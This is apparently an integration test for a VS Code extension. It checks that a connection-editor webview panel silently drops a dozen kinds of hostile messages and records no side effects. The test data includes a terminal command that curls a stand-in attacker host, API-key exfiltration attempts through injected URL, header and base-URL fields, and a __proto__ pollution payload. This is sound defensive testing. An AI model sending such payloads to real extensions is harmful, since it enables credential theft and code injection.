// Hostile webview messages at the extension-host level: a real connection-editor panel
// (its real HTML, CSP and script, the extension's manifest store) receives messages as
// its webview would deliver them. After the handshake, none of the hostile ones may have
// a side effect: no reply or post to the webview, no SecretStorage call, no request (the
// trap gets 0 bytes), no file change, no new panel or editor; each is logged by reason.
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import * as vscode from 'vscode';
import { EXTENSION_ID, MemoryMemento, api } from './helpers';
import { ConnectionTester } from '../../src/testing/connectionTester';
import { Credentials } from '../../src/credentials/credentials';
import { ConnectionEditorPanel } from '../../src/editor/connectionEditor';
import { PROTOCOL_VERSION } from '../../src/core/form/formProtocol';
import { TestResults } from '../../src/testing/testResults';
import { startTrapServer, type TrapServer } from '../mocks';
import { CANARY, recordCase, recordTrap } from '../unit/hostile/report';

class CountingSecrets implements vscode.SecretStorage {
  calls = 0;
  private readonly emitter = new vscode.EventEmitter<vscode.SecretStorageChangeEvent>();
  readonly onDidChange = this.emitter.event;
  get(): Thenable<string | undefined> { this.calls++; return Promise.resolve(undefined); }
  store(): Thenable<void> { this.calls++; return Promise.resolve(); }
  delete(): Thenable<void> { this.calls++; return Promise.resolve(); }
  keys(): Thenable<string[]> { this.calls++; return Promise.resolve([]); }
}

/** VS Code's LogOutputChannel, keeping the lines so that the drops can be counted. */
function recordingLog(lines: string[]): vscode.LogOutputChannel {
  const push = (level: string) => (message: string | Error) => void lines.push(`${level} ${message instanceof Error ? message.message : message}`);
  return {
    name: 'hostile webview test', logLevel: vscode.LogLevel.Trace, onDidChangeLogLevel: new vscode.EventEmitter<vscode.LogLevel>().event,
    trace: push('trace'), debug: push('debug'), info: push('info'), warn: push('warn'), error: push('error'),
    append: push('append'), appendLine: push('append'), replace: push('replace'), clear: () => undefined, show: () => undefined, hide: () => undefined, dispose: () => undefined,
  } as vscode.LogOutputChannel;
}

function deep(levels: number): unknown {
  let v: unknown = 'x';
  for (let i = 0; i < levels; i++) v = { v };
  return v;
}

const draft = () => ({ fields: { modelName: 'gpt-4o', provider: 'openai', model: 'gpt-4o' }, advanced: [] });

describe('hostile webview messages to a real connection-editor panel', function () {
  this.timeout(60_000);
  let trap: TrapServer;
  before(async () => {
    trap = await startTrapServer();
    await vscode.workspace.getConfiguration('agentConnections').update('providerEndpoints', { openai: trap.origin }, vscode.ConfigurationTarget.Global);
  });
  after(async () => {
    await vscode.workspace.getConfiguration('agentConnections').update('providerEndpoints', undefined, vscode.ConfigurationTarget.Global);
    recordTrap('extension host: hostile webview messages', trap);
    await trap.close();
  });

  it('after the handshake, ≥ 10 kinds of hostile messages have no side effect; after dispose nothing is handled', async () => {
    const a = await api();
    const ext = vscode.extensions.getExtension(EXTENSION_ID)!;
    const folder = vscode.workspace.workspaceFolders![0];
    const manifest = path.join(folder.uri.fsPath, 'agent-connections.yaml');
    const bytes = fs.readFileSync(manifest);
    const secrets = new CountingSecrets();
    const context = { extensionUri: ext.extensionUri, secrets, globalState: new MemoryMemento(), workspaceState: new MemoryMemento(), subscriptions: [] } as unknown as vscode.ExtensionContext;
    const lines: string[] = [];
    const log = recordingLog(lines);
    const credentials = new Credentials(context);
    const results = new TestResults(new MemoryMemento());
    const tester = new ConnectionTester(context, credentials, results, log);
    const editor = ConnectionEditorPanel.createOrShow({ context, store: a.store, credentials, tester, results, log, agentUsers: (f, m, c) => a.agentsTree.usage(f, m, c) }, { mode: 'editModel', folder, model: 'gpt-4o' });
    const posted: unknown[] = [];
    const webview = editor.panel.webview;
    const realPost = webview.postMessage.bind(webview);
    webview.postMessage = (m: unknown) => { posted.push(m); return realPost(m); };
    const receive = (raw: unknown): void => (editor as unknown as { receive(raw: unknown): void }).receive(raw);
    const settle = () => new Promise((r) => setTimeout(r, 300));
    try {
      // The handshake, as the panel's script sends it (whichever of its `ready` and this one comes first wins;
      // the other is dropped as a replayed id).
      await new Promise((r) => setTimeout(r, 1_000));
      receive({ type: 'ready', id: 1, protocol: PROTOCOL_VERSION });
      await settle();
      assert.ok(posted.some((m) => (m as { type?: string }).type === 'init'), 'the form never initialised');
      // One valid message, whose id is then replayed.
      posted.length = 0;
      receive({ type: 'validate', id: 1000, draft: draft() });
      await settle();
      assert.strictEqual(posted.length, 1, `the valid message got no reply; log: ${lines.slice(-6).join(' | ')}; posted: ${JSON.stringify(posted).slice(0, 300)}`);
      posted.length = 0;
      const callsBefore = secrets.calls;
      const tabsBefore = vscode.window.tabGroups.all.flatMap((g) => g.tabs).length;
      const dropsBefore = lines.filter((l) => l.includes('dropped a webview message')).length;

      const hostile: Array<[string, unknown]> = [
        ['unknown type (a command name)', { type: 'workbench.action.terminal.sendSequence', id: 1001, args: { text: 'curl https://collector.evil.example\n' } }],
        ['extra field carrying a URL', { type: 'test', id: 1002, draft: draft(), secret: { apiKey: CANARY }, url: 'https://collector.evil.example/v1' }],
        ['extra field carrying headers', { type: 'test', id: 1003, draft: draft(), secret: { apiKey: CANARY }, headers: { Authorization: `Bearer ${CANARY}`, Host: 'collector.evil.example' } }],
        ['extra draft field carrying a base URL', { type: 'save', id: 1004, draft: { ...draft(), baseUrl: 'https://collector.evil.example/v1' }, secret: { apiKey: CANARY } }],
        ['oversized (200 KB)', { type: 'validate', id: 1005, draft: { fields: { modelDescription: 'x'.repeat(200_000) }, advanced: [] } }],
        ['too deep', { type: 'validate', id: 1006, draft: { fields: {}, advanced: [{ kind: 'header', name: 'a', value: deep(50) }] } }],
        ['__proto__ payload', JSON.parse('{"type":"save","id":1007,"draft":{"fields":{"__proto__":{"isAdmin":true}},"advanced":[]},"secret":{}}')],
        ['unknown action (a command name)', { type: 'action', id: 1008, action: 'workbench.action.openSettings' }],
        ['replayed id of the valid message', { type: 'validate', id: 1000, draft: draft() }],
        ['out-of-order id (a delete)', { type: 'action', id: 999, action: 'delete' }],
        ['wrong protocol version', { type: 'ready', id: 1009, protocol: 99 }],
        ['not an object', 'save'],
      ];
      for (const [kind, raw] of hostile) {
        // The gate decides synchronously: exactly one drop line for this message.
        const at = lines.length;
        const t0 = performance.now();
        receive(raw);
        const ms = performance.now() - t0;
        const added = lines.slice(at);
        assert.strictEqual(added.length, 1, `${kind}: ${added.join(' | ')}`);
        assert.match(added[0], /dropped a webview message/, kind);
        recordCase('extension host: webview', kind, ms, true, undefined, { sideEffects: 0 });
      }
      await settle();
      assert.ok(lines.filter((l) => l.includes('dropped a webview message')).length - dropsBefore >= hostile.length);
      assert.ok(!lines.some((l) => l.includes(CANARY)), 'a log line carries the key');
      assert.deepStrictEqual(posted, [], 'the panel answered a hostile message');
      assert.strictEqual(secrets.calls, callsBefore, 'SecretStorage was called');
      assert.ok(fs.readFileSync(manifest).equals(bytes), 'the manifest changed');
      assert.strictEqual(trap.bytesReceived, 0);
      assert.strictEqual(vscode.window.tabGroups.all.flatMap((g) => g.tabs).length, tabsBefore, 'a tab was opened');
      assert.strictEqual(ConnectionEditorPanel.open.length, 1, 'another panel was opened');
      assert.strictEqual(({} as Record<string, unknown>).isAdmin, undefined);

      // After dispose: a well-formed delete and save are not handled either.
      editor.dispose();
      receive({ type: 'action', id: 2000, action: 'delete' });
      receive({ type: 'save', id: 2001, draft: draft(), secret: { apiKey: CANARY } });
      await settle();
      assert.deepStrictEqual(lines.slice(-2).map((l) => /dropped a webview message \(the form is closed\)/.test(l)), [true, true]);
      assert.strictEqual(secrets.calls, callsBefore);
      assert.ok(fs.readFileSync(manifest).equals(bytes));
      recordCase('extension host: webview', 'a delete and a save after dispose', 0, true, undefined, { sideEffects: 0 });
    } finally {
      editor.dispose();
      tester.dispose();
      credentials.dispose();
    }
  });
});
